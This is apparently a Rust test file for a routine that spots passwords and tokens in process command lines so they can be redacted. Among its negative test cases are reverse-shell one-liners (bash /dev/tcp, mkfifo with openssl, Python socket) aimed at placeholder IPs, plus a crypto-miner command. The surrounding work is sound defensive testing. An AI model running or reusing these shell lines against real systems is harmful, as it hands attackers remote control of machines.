use super::*;
use proptest::prelude::*;

fn found(text: &str) -> Vec<&str> {
    let mut list = Spans::default();
    secrets(text.as_bytes(), Kind::Arguments, &mut list);
    list.ranges().map(|span| &text[span]).collect()
}

/// Arguments between which bars stand in place of NULs.
fn line(text: &str) -> String {
    text.replace('|', "\0") + "\0"
}

proptest! {
    #[test]
    fn what_separates_is_seen(before in "[!a-z=-]{0,20}", byte: u8, after in "[!a-z=-]{0,20}") {
        let text = [before.as_bytes(), &[byte], after.as_bytes()].concat();
        let separates = |b: &u8| *b == 0 || b.is_ascii_whitespace() || matches!(b, b'"' | b'\'');
        prop_assert!(several(&text) || !text.iter().any(separates));
        prop_assert!(!several(before.as_bytes()));
    }
}

#[test]
fn secrets_by_place() {
    for (text, want) in [
        ("tool|--password|hunter2|-v", "hunter2"),
        ("tool|--api-key|k", "k"),
        ("mysql|-uroot|-phunter2|db", "hunter2"),
        ("sh|-c|exec mysqldump -phunter2 db > x", "hunter2"),
        ("sh|-c|ssh h 'mysql -phunter2'", "hunter2"),
        ("sshpass|-p|pw|ssh|-p|22|h", "pw"),
        ("curl|-u|me:pw|https://h/", "pw"),
        ("curl|-ume:pw|https://h/", "pw"),
        ("curl|-sSu|me:pw|https://h/", "pw"),
        ("curl|--user=me:pw|https://h/", "pw"),
        ("curl|-H|Authorization: Bearer t0k|https://h", "t0k"),
        ("tool|Bearer|t0k", "t0k"),
        ("http|h|Authorization:|Basic|t0k", "t0k"),
        ("redis-cli|-a|pw|ping", "pw"),
        ("openssl|enc|-passin|pass:pw", "pw"),
        ("openssl|passwd|-6|pw", "pw"),
        ("app --token=abc", "abc"),
        ("smbclient|//h/s|-U|dom/u%pw", "pw"),
        ("smbclient|//h/s|--user=u%pw", "pw"),
        ("lftp|-u|bob,pw|h", "pw"),
        ("oc|login|-u|d|-p|pw|https://h", "pw"),
        ("docker|login|-u|d|-ppw", "pw"),
        ("sqlplus|scott/pw@db", "pw"),
        ("sqlplus|-s|scott/pw@//h:1521/x", "pw"),
        ("xfreerdp|/u:x|/p:pw|/v:h", "pw"),
        ("nmcli|dev|wifi|connect|x|password|pw", "pw"),
        ("wpa_passphrase|ssid|pw", "pw"),
        ("kubectl|create|secret|generic|x|--from-literal=a=pw", "pw"),
        ("kubectl|create|secret|generic|x|--from-literal|a=pw", "pw"),
        ("vault|kv|put|secret/x|value=pw", "pw"),
        ("vault|login|pw", "pw"),
        ("aws|configure|set|aws_secret_access_key|pw", "pw"),
        ("htpasswd|-bc|/etc/h|bob|pw", "pw"),
        ("redis-server|--masterauth|pw", "pw"),
        ("redis-cli|CONFIG|SET|requirepass|pw", "pw"),
        ("rabbitmqctl|add_user|bob|pw", "pw"),
        ("mysql|-e|CREATE USER a IDENTIFIED BY 'pw'", "pw"),
        ("mysql|-e|ALTER USER a IDENTIFIED WITH sha256_password BY \"p w\"", "p w"),
        ("psql|-c|ALTER ROLE a WITH PASSWORD 'pw'", "pw"),
        ("cat|machine h login u password pw", "pw"),
        ("run|[\"tool\",\"--password\",\"pw\"]", "pw"),
        ("restic|--password-command|echo pw", "echo pw"),
        ("psexec.py|dom/u:pw@203.0.113.6", "pw"),
        ("env|DB_PASSWORD=a;b|tool", "a;b"),
        ("mysqlsh|root:s3cret@db:3306", "s3cret"),
    ] {
        assert_eq!(found(&line(text)), [want], "{text:?}");
    }
    assert_eq!(found(&line("curl|-u|a:p1|https://h|-u|b:p2|https://g")), ["p1", "p2"]);
}

#[test]
fn other_command_lines_stay() {
    for text in [
        "ssh|-p|22|host",
        "/usr/sbin/sshd|-D",
        "ssh-agent|--key|/etc/key.pem",
        "mysqld|--port=3306|-p",
        "tool|--password|--verbose",
        "python3|-m|http.server|8000",
        "curl|-u|user|http://h/",
        "curl|-b|/tmp/a/jar.txt|http://h/",
        "docker|run|-p|8080:80|--user|1000:1000|nginx:1.27",
        "docker|run|oauth2-proxy:v7.4",
        "git|checkout|7c4a8d09ca3762af61e59520943dc26494f8941b",
        "python3|-c|import socket;s=socket.socket();s.connect(('203.0.113.6',4444))",
        "sh|-c|mkfifo /tmp/s; sh -i </tmp/s 2>&1|openssl s_client -quiet -connect 203.0.113.6:443 >/tmp/s",
        "bash|-c|bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
        "frpc|--auth-server|https://198.51.100.23:7443/api",
        "qemu-system-x86_64|-k|de|-monitor|unix:/run/q.sock",
        "xmrig|-o|pool.example:3333|-u|wallet|-p|x",
        "getent|passwd|bob",
        "grep|-r|password|/etc",
        "openvpn|--auth-user-pass|/etc/openvpn/login.conf",
        "sqlplus|/nolog",
        "kubeadm|join|--discovery-token-ca-cert-hash|sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "sh|-c|curl -H \"Authorization: Bearer $TOKEN\" https://203.0.113.6/x",
        "",
    ] {
        assert!(found(&line(text)).is_empty(), "{text:?}: {:?}", found(&line(text)));
    }
}
